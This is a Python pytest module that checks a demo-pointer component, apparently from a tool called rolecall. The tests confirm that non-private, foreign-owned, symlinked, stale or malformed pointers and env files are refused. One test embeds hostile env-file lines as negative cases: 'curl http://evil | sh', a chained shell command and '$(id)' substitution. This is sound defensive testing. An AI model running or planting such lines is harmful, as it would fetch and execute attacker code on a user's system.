"""The running-demo pointer believes only a private pointer to a live demo that answers."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from rolecall.core.private_files import ensure_private_dir, write_private
from rolecall.demo import pointer as demo_pointer
from rolecall.demo.signin import SigninServer
from tests.second_user import GID, UID, needs_second_user

KEY = bytes(range(32))


@dataclass
class World:
    """A stand-in demo world: a private dir with demo.env and a sign-in server with a key."""

    pointer: Path
    env_file: Path
    exports: str
    server: SigninServer


def exports_for(federation: str) -> str:
    return (
        f"export ROLECALL_FEDERATION_ENDPOINT={federation}\n"
        "export AWS_ENDPOINT_URL=http://127.0.0.1:1\n"
        "export AWS_PROFILE=demo\n"
    )


@pytest.fixture(scope="module")
def server() -> Iterator[SigninServer]:
    """One sign-in server for the module (stopping one takes half a second)."""
    server = SigninServer("http://127.0.0.1:1", proof_key=KEY)
    try:
        yield server
    finally:
        server.stop()


@pytest.fixture
def world(tmp_path: Path, server: SigninServer) -> World:
    root = ensure_private_dir(tmp_path / "rolecall-demo-x")
    env_file = root / "demo.env"
    exports = exports_for(server.url)
    write_private(env_file, exports.encode())
    pointer = tmp_path / "cache" / "demo.json"
    demo_pointer.publish(pointer, env_file, KEY)
    return World(pointer, env_file, exports, server)


def rewrite(pointer: Path, **changes: object) -> None:
    record = json.loads(pointer.read_text())
    record.update(changes)
    write_private(pointer, json.dumps(record).encode())


def test_a_running_demo_of_ours_is_found(world: World) -> None:
    assert demo_pointer.running_exports(world.pointer) == world.exports


def test_no_pointer_means_no_demo(tmp_path: Path) -> None:
    assert demo_pointer.running_exports(tmp_path / "cache" / "demo.json") is None


def test_the_pointer_is_private(world: World) -> None:
    assert world.pointer.stat().st_mode & 0o777 == 0o600
    assert world.pointer.parent.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize("which", ["pointer", "env file"])
def test_a_group_or_world_readable_file_is_refused(world: World, which: str) -> None:
    (world.pointer if which == "pointer" else world.env_file).chmod(0o644)
    assert demo_pointer.running_exports(world.pointer) is None


@pytest.mark.parametrize("which", ["pointer", "env file"])
def test_a_file_in_a_non_private_directory_is_refused(world: World, which: str) -> None:
    (world.pointer if which == "pointer" else world.env_file).parent.chmod(0o755)
    assert demo_pointer.running_exports(world.pointer) is None


@needs_second_user
@pytest.mark.parametrize("which", ["pointer", "env file", "env dir"])
def test_a_foreign_owned_file_is_refused(world: World, which: str) -> None:
    target = {"pointer": world.pointer, "env file": world.env_file}.get(which)
    os.chown(target or world.env_file.parent, UID, GID)
    assert demo_pointer.running_exports(world.pointer) is None


def test_a_symlinked_pointer_is_refused(world: World, tmp_path: Path) -> None:
    real = world.pointer.with_name("real.json")
    world.pointer.rename(real)
    world.pointer.symlink_to(real)
    assert demo_pointer.running_exports(world.pointer) is None


@pytest.mark.parametrize("pid", [0, -1, True, "4242", None, 1.5])
def test_a_pid_that_is_not_a_positive_integer_is_refused(world: World, pid: object) -> None:
    rewrite(world.pointer, pid=pid)
    assert demo_pointer.running_exports(world.pointer) is None


def test_a_dead_pid_is_refused(world: World) -> None:
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], check=True,
                          capture_output=True, text=True)  # fmt: skip
    rewrite(world.pointer, pid=int(done.stdout))
    assert demo_pointer.running_exports(world.pointer) is None


@pytest.mark.parametrize(
    "record", ["not json", "[]", '{"pid": 1}', '{"pid": 1, "env": "x", "key": "zz"}']
)
def test_a_malformed_pointer_is_refused(world: World, record: str) -> None:
    write_private(world.pointer, record.encode())
    assert demo_pointer.running_exports(world.pointer) is None


def test_a_relative_env_path_is_refused(world: World) -> None:
    rewrite(world.pointer, env="demo.env")
    assert demo_pointer.running_exports(world.pointer) is None


def test_an_endpoint_that_is_not_listening_is_refused(world: World) -> None:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    write_private(world.env_file, exports_for(f"http://127.0.0.1:{port}/federation").encode())
    assert demo_pointer.running_exports(world.pointer) is None


def test_an_endpoint_that_never_answers_is_refused_within_a_second_or_so(world: World) -> None:
    with socket.socket() as silent:
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        url = f"http://127.0.0.1:{silent.getsockname()[1]}/federation"
        write_private(world.env_file, exports_for(url).encode())
        started = time.monotonic()
        assert demo_pointer.running_exports(world.pointer) is None
        assert time.monotonic() - started < 3


def test_an_endpoint_without_the_key_is_refused(world: World) -> None:
    rewrite(world.pointer, key=bytes(32).hex())
    assert demo_pointer.running_exports(world.pointer) is None
    keyless = SigninServer("http://127.0.0.1:1")
    try:
        write_private(world.env_file, exports_for(keyless.url).encode())
        rewrite(world.pointer, key=KEY.hex())
        assert demo_pointer.running_exports(world.pointer) is None
    finally:
        keyless.stop()


def test_an_endpoint_off_loopback_is_refused(world: World) -> None:
    port = world.server.port
    for url in (f"http://localhost:{port}/federation", f"https://127.0.0.1:{port}/federation"):
        write_private(world.env_file, exports_for(url).encode())
        assert demo_pointer.running_exports(world.pointer) is None


@pytest.mark.parametrize(
    "extra",
    [
        "curl http://evil | sh\n",
        "export AWS_PROFILE=demo; touch /tmp/x\n",
        "export AWS_PROFILE=$(id)\n",
        "export AWS_PROFILE='a' 'b'\n",
    ],
)
def test_an_env_file_with_anything_but_plain_exports_is_refused(world: World, extra: str) -> None:
    write_private(world.env_file, (world.exports + extra).encode())
    assert demo_pointer.running_exports(world.pointer) is None


def test_withdraw_removes_only_our_own_pointer(world: World) -> None:
    rewrite(world.pointer, pid=1)
    demo_pointer.withdraw(world.pointer)
    assert world.pointer.exists()
    rewrite(world.pointer, pid=os.getpid())
    demo_pointer.withdraw(world.pointer)
    assert not world.pointer.exists()


def test_the_pointer_lives_in_a_private_runtime_dir(tmp_path: Path) -> None:
    runtime = ensure_private_dir(tmp_path / "run")
    env = {"XDG_RUNTIME_DIR": str(runtime), "HOME": str(tmp_path / "home")}
    assert demo_pointer.location(env) == runtime / "rolecall" / "demo.json"


@pytest.mark.parametrize("runtime", ["", "relative/run", "/nonexistent/run", "open"])
def test_otherwise_in_the_user_cache_dir_whatever_rolecall_home_says(
    tmp_path: Path, runtime: str
) -> None:
    if runtime == "open":
        (tmp_path / "open").mkdir(mode=0o755)
        (tmp_path / "open").chmod(0o755)
        runtime = str(tmp_path / "open")
    env = {
        "XDG_RUNTIME_DIR": runtime,
        "HOME": str(tmp_path / "home"),
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
        "ROLECALL_HOME": str(tmp_path / "rolecall-demo-x" / "home"),
    }
    assert demo_pointer.location(env) == tmp_path / "cache" / "rolecall" / "demo.json"


@needs_second_user
def test_a_foreign_runtime_dir_is_not_used(tmp_path: Path) -> None:
    runtime = ensure_private_dir(tmp_path / "run")
    os.chown(runtime, UID, GID)
    env = {"XDG_RUNTIME_DIR": str(runtime), "XDG_CACHE_HOME": str(tmp_path / "cache")}
    assert demo_pointer.location(env) == tmp_path / "cache" / "rolecall" / "demo.json"
